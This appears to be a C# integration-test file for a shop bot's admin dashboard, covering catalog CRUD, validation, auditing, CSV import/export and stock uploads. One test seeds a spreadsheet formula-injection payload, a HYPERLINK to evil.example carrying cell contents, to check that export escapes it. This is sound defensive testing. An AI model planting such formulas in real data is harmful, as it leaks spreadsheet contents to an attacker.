using System.Net;
using System.Text;
using BotAutoOrder.Domain.Audit;
using BotAutoOrder.Domain.Catalog;
using BotAutoOrder.Domain.Orders;
using BotAutoOrder.Domain.Stock;
using BotAutoOrder.Tests.Support;
using BotAutoOrder.Web.Hosting;
using Microsoft.EntityFrameworkCore;

namespace BotAutoOrder.Tests.Web;

public abstract class DashboardCatalogTests(DatabaseProvider provider) : DashboardTestBase(provider)
{
    private DashboardSeed Seed => new(App);

    private static (string, string)[] ProductForm(string code, string name, long categoryId, string price,
        string perOrder = "", string lowStock = "", string terms = "", bool active = true) =>
    [
        ("Input.Code", code), ("Input.Name", name), ("Input.CategoryId", categoryId.ToString()), ("Input.Price", price),
        ("Input.Description", "Deskripsi"), ("Input.PerOrderLimit", perOrder), ("Input.LowStockThreshold", lowStock),
        ("Input.TermsText", terms), ("Input.IsActive", active ? "true" : "false"),
    ];

    [Fact]
    public async Task Category_CreateEditDeactivate_WithUniqueName()
    {
        var owner = await OwnerAsync();
        using var created = await owner.PostFormAsync("/admin/categories/edit", ("Input.Name", "Streaming"), ("Input.SortOrder", "1"), ("Input.IsActive", "true"));
        Assert.Contains("Streaming", await owner.FollowAsync(created));
        var id = await App.QueryAsync(db => db.Categories.Where(c => c.Name == "Streaming").Select(c => c.Id).SingleAsync());

        using var duplicate = await owner.PostFormAsync("/admin/categories/edit", ("Input.Name", "Streaming"), ("Input.SortOrder", "2"));
        Assert.Equal(HttpStatusCode.OK, duplicate.StatusCode);
        Assert.Contains("Nama ini sudah dipakai", await duplicate.Content.ReadAsStringAsync());
        using var empty = await owner.PostFormAsync("/admin/categories/edit", ("Input.Name", ""), ("Input.SortOrder", "2"));
        Assert.Contains("field-validation-error", await empty.Content.ReadAsStringAsync());
        Assert.Equal(1, await App.QueryAsync(db => db.Categories.CountAsync()));

        using var edited = await owner.PostFormAsync($"/admin/categories/edit/{id}", ("Input.Name", "Streaming Premium"), ("Input.SortOrder", "3"), ("Input.IsActive", "true"));
        await owner.FollowAsync(edited);
        using var deactivated = await owner.PostFormAsync($"/admin/categories?handler=Active&id={id}&active=false", [new("confirmed", "true")], "/admin/categories");
        Assert.Contains("dinonaktifkan", await owner.FollowAsync(deactivated));

        var category = await App.QueryAsync(db => db.Categories.SingleAsync());
        Assert.Equal(("Streaming Premium", 3, false), (category.Name, category.SortOrder, category.IsActive));
        var actions = await App.QueryAsync(db => db.AuditEntries.Where(a => a.EntityType == "Category").Select(a => a.Action).ToListAsync());
        Assert.Equal([AuditActions.CategoryCreated, AuditActions.CategoryUpdated, AuditActions.CategoryDeactivated], actions);
    }

    [Fact]
    public async Task ProductSave_InvalidFields_ShowMessagesNextToThemAndSaveNothing()
    {
        var existing = await Seed.ProductAsync("NFX1");
        var owner = await OwnerAsync();
        using var bad = await owner.PostFormAsync("/admin/products/edit", ProductForm("nfx1", "", existing.CategoryId, "0", perOrder: "0", lowStock: "-1"));
        Assert.Equal(HttpStatusCode.OK, bad.StatusCode);
        var html = await bad.Content.ReadAsStringAsync();
        foreach (var (field, message) in new[] { ("Code", "Kode ini sudah dipakai"), ("Name", "Wajib diisi"), ("Price", "Harga harus lebih dari 0"),
                     ("PerOrderLimit", "Harus lebih dari 0"), ("LowStockThreshold", "Tidak boleh negatif") })
            Assert.Matches($"data-valmsg-for=\"Input.{field}\"[^>]*>{message}", html);
        Assert.Equal(1, await App.QueryAsync(db => db.Products.CountAsync()));
    }

    [Fact]
    public async Task Product_CreateEditDeactivate_Audited()
    {
        var category = (await Seed.ProductAsync("SEED")).CategoryId;
        var owner = await OwnerAsync();
        using var created = await owner.PostFormAsync("/admin/products/edit", ProductForm("spt-1", "Spotify 1 Bulan", category, "15000", perOrder: "3", terms: "Jangan ganti password"));
        Assert.Contains("SPT-1", await owner.FollowAsync(created));
        var product = await App.QueryAsync(db => db.Products.SingleAsync(p => p.Code == "SPT-1"));
        Assert.Equal((15000L, 3, "Jangan ganti password", true), (product.Price, product.PerOrderLimit, product.TermsText, product.IsActive));

        using var edited = await owner.PostFormAsync($"/admin/products/edit/{product.Id}", ProductForm("IGNORED", "Spotify Premium", category, "17000", lowStock: "2"));
        await owner.FollowAsync(edited);
        using var off = await owner.PostFormAsync($"/admin/products?handler=Active&id={product.Id}&active=false", [new("confirmed", "true")], "/admin/products");
        await owner.FollowAsync(off);

        product = await App.QueryAsync(db => db.Products.SingleAsync(p => p.Id == product.Id));
        Assert.Equal(("SPT-1", "Spotify Premium", 17000L, (int?)null, 2, false), (product.Code, product.Name, product.Price, product.PerOrderLimit, product.LowStockThreshold.GetValueOrDefault(), product.IsActive));
        var actions = await App.QueryAsync(db => db.AuditEntries.Where(a => a.EntityType == "Product" && a.EntityId == product.Id.ToString()).Select(a => a.Action).ToListAsync());
        Assert.Equal([AuditActions.ProductCreated, AuditActions.ProductUpdated, AuditActions.ProductDeactivated], actions);
        Assert.All(await App.QueryAsync(db => db.AuditEntries.Where(a => a.EntityType == "Product").Select(a => a.Actor).ToListAsync()),
            actor => Assert.Equal("admin:" + OwnerEmail, actor));
    }

    [Fact]
    public async Task CsvImport_BadRowReportedWithLineNumber_AndNothingFromItWritten()
    {
        await Seed.ProductAsync("NFX1", "Netflix lama", 20000, "Streaming");
        var csv = """
            code,name,category,price,description,active,per_order_limit,terms,low_stock_threshold
            NFX1,Netflix 1 Bulan,Streaming,25000,"Akun sharing, 1 profil",true,2,,3
            BAD1,Tidak Boleh,Kategori Baru,gratis,,true,,,
            VPN1,VPN Setahun,Keamanan,50000,,false,,Pakai sendiri,
            BAD2,Nol,Kategori Lain,0,,true,0,,
            """;
        var owner = await OwnerAsync();
        using var response = await owner.PostFileAsync("/admin/products/import", "file", "catalog.csv", Encoding.UTF8.GetBytes(csv));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync();
        Assert.Contains("Dibuat 1, diperbarui 1, kategori baru 1, baris bermasalah 2", html);
        Assert.Matches("<td class=\"num\">3</td><td>price &#x27;gratis&#x27;", html);
        Assert.Matches("<td class=\"num\">5</td><td>[^<]*price: Harga", html.Replace("Price must be greater than 0", "Harga")); // line 5

        var products = await App.QueryAsync(db => db.Products.Include(p => p.Category).OrderBy(p => p.Code).ToListAsync());
        Assert.Equal(["NFX1", "VPN1"], products.Select(p => p.Code));
        var netflix = products[0];
        Assert.Equal(("Netflix 1 Bulan", 25000L, "Akun sharing, 1 profil", 2, 3), (netflix.Name, netflix.Price, netflix.Description, netflix.PerOrderLimit!.Value, netflix.LowStockThreshold!.Value));
        Assert.Equal(("Keamanan", false, "Pakai sendiri"), (products[1].Category!.Name, products[1].IsActive, products[1].TermsText));
        Assert.False(await App.QueryAsync(db => db.Categories.AnyAsync(c => c.Name == "Kategori Baru" || c.Name == "Kategori Lain")));

        var export = await owner.GetPageAsync("/admin/products?handler=Export");
        Assert.StartsWith("code,name,category,price,description,active,per_order_limit,terms,low_stock_threshold", export.TrimStart('\uFEFF'));
        Assert.Contains("NFX1,Netflix 1 Bulan,Streaming,25000,\"Akun sharing, 1 profil\",true,2,,3", export);
    }

    [Fact]
    public async Task CsvExport_FormulaCells_AreEscapedAndReimportUnchanged()
    {
        const string formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")";
        await Seed.ProductAsync("F1", formula);
        await Seed.ProductAsync("F2", "-50% promo");
        var owner = await OwnerAsync();

        var export = await owner.GetPageAsync("/admin/products?handler=Export");

        Assert.Contains("F1,\"'=HYPERLINK(", export);
        Assert.Contains("'-50% promo", export);
        Assert.DoesNotContain(",-50% promo", export);
        Assert.DoesNotContain(",=HYPERLINK", export);
        Assert.DoesNotContain(",\"=HYPERLINK", export);
        using var reimport = await owner.PostFileAsync("/admin/products/import", "file", "c.csv", Encoding.UTF8.GetBytes(export.TrimStart('\uFEFF')));
        Assert.Equal(HttpStatusCode.OK, reimport.StatusCode);
        Assert.Equal([formula, "-50% promo"], await App.QueryAsync(db => db.Products.OrderBy(p => p.Code).Select(p => p.Name).ToListAsync()));
    }

    [Fact]
    public async Task CsvImport_MissingColumns_WritesNothing()
    {
        var owner = await OwnerAsync();
        using var response = await owner.PostFileAsync("/admin/products/import", "file", "c.csv", Encoding.UTF8.GetBytes("code,name,price\nA1,Apa,100\n"));
        Assert.Contains("Missing columns: category, description, active", await response.Content.ReadAsStringAsync());
        Assert.False(await App.QueryAsync(db => db.Products.AnyAsync()));
    }

    [Fact]
    public async Task StockUpload_WithDuplicates_CountsThoseWithinTheUploadAndAgainstExisting()
    {
        var product = await Seed.ProductAsync("KEY1");
        var owner = await OwnerAsync();
        var page = $"/admin/stock/{product.Id}";
        using var pasted = await owner.PostFormAsync($"{page}?handler=Paste", [new("lines", "key-aaaa-1\r\nkey-bbbb-2\n\n   \nkey-aaaa-1\n")], page);
        Assert.Contains("Ditambahkan 2, duplikat 1.", await owner.FollowAsync(pasted));

        var file = Encoding.UTF8.GetBytes("key-bbbb-2\nkey-cccc-3\nkey-cccc-3\n\nkey-dddd-4\n key-aaaa-1 \n");
        using var uploaded = await owner.PostFileAsync($"{page}?handler=Upload", "file", "keys.txt", file, formPage: page);
        var html = await owner.FollowAsync(uploaded);
        Assert.Contains("Ditambahkan 2, duplikat 3.", html);
        Assert.Contains("id=\"count-available\">4<", html);
        Assert.DoesNotContain("key-cccc-3", html); // items are shown masked

        var contents = (await App.StockContentsAsync(s => s.ProductId == product.Id)).Order().ToList();
        Assert.Equal(["key-aaaa-1", "key-bbbb-2", "key-cccc-3", "key-dddd-4"], contents);
        var audit = await App.QueryAsync(db => db.AuditEntries.Where(a => a.Action == AuditActions.StockAdded).Select(a => a.Details!).ToListAsync());
        Assert.Equal(2, audit.Count);
        Assert.DoesNotContain(audit, d => d.Contains("key-"));
    }

    [Fact]
    public async Task StockUpload_TooLargeOrWrongType_ClearError()
    {
        var product = await Seed.ProductAsync("KEY2");
        var owner = await OwnerAsync();
        var page = $"/admin/stock/{product.Id}";
        var big = Encoding.UTF8.GetBytes(string.Join("\n", Enumerable.Range(0, 120_000).Select(i => $"item-{i:D12}")));
        Assert.True(big.Length > 2 * 1024 * 1024);
        using var tooBig = await owner.PostFileAsync($"{page}?handler=Upload", "file", "big.txt", big, formPage: page);
        Assert.Contains("lebih dari 2 MB", await owner.FollowAsync(tooBig));
        using var exe = await owner.PostFileAsync($"{page}?handler=Upload", "file", "x.exe", [65, 66], formPage: page);
        Assert.Contains(".txt", await owner.FollowAsync(exe));
        Assert.False(await App.QueryAsync(db => db.StockItems.AnyAsync()));
    }

    [Fact]
    public async Task SoldOrReservedItem_CannotBeDeleted_AvailableCan()
    {
        var product = await Seed.ProductAsync("KEY3");
        var ids = await Seed.StockAsync(product.Id, "sold-item-0001", "free-item-0002");
        var buyer = await Seed.CustomerAsync(5001);
        await Seed.OrderAsync(buyer, product, 1, OrderStatus.Paid, "INV-SOLD-1", soldItemIds: ids[0]);
        var owner = await OwnerAsync();
        var page = $"/admin/stock/{product.Id}";

        using var refused = await owner.PostFormAsync($"{page}?handler=Delete&itemId={ids[0]}", [], page);
        Assert.Contains("tidak dapat dihapus", await owner.FollowAsync(refused));
        using var deleted = await owner.PostFormAsync($"{page}?handler=Delete&itemId={ids[1]}", [], page);
        Assert.Contains("Item dihapus", await owner.FollowAsync(deleted));

        var left = await App.QueryAsync(db => db.StockItems.Select(s => new { s.Id, s.Status }).ToListAsync());
        Assert.Equal(ids[0], Assert.Single(left).Id);
        Assert.Equal(StockItemStatus.Sold, left[0].Status);
        Assert.Single(await App.QueryAsync(db => db.AuditEntries.Where(a => a.Action == AuditActions.StockDeleted).ToListAsync()));
    }
}

public sealed class DashboardCatalogPostgresTests() : DashboardCatalogTests(DatabaseProvider.Postgres);

public sealed class DashboardCatalogSqliteTests() : DashboardCatalogTests(DatabaseProvider.Sqlite);
